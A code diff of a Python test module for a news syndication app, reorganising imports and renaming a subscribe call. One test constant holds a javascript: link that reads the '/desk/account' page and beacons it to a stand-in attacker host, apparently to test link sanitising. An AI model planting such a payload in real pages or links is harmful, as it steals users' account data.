@@ -13,11 +13,16 @@ from sqlalchemy import select
 from starlette.testclient import TestClient
 
 from desk_client import add_editor, api_headers, desk_client, signed_in
-from syndicate import api_tokens, editions, feeds, links, metrics, subscribers
+from syndicate import links
 from syndicate.db import transaction
 from syndicate.errors import InvalidInput
+from syndicate.http import api_tokens
+from syndicate.ingest import feeds
 from syndicate.models import Article, Feed, utcnow
-from syndicate.web import create_app
+from syndicate.newsletters import editions
+from syndicate.subscribers import consent
+from syndicate.web import metrics
+from syndicate.web.app import create_app
 
 TAKEOVER = "javascript:fetch('/desk/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))"
 IRI = "https://hub.example/2026/05/東京-猛暑対策/?q=北京"
@@ -50,7 +55,7 @@ def polled(svc, feed_server):
         assert result.status == "ok", result.error
         newsletter = editions.add_newsletter(session, slug="daily", name="Daily", from_address="news@example.com",
                                              first_fill="last:10")
-        subscribers.subscribe(session, "reader@example.org", [newsletter.id], confirmed=True)
+        consent.subscribe(session, "reader@example.org", [newsletter.id], confirmed=True)
         editions.cut(session, newsletter, svc.settings)
         return feed.id
 
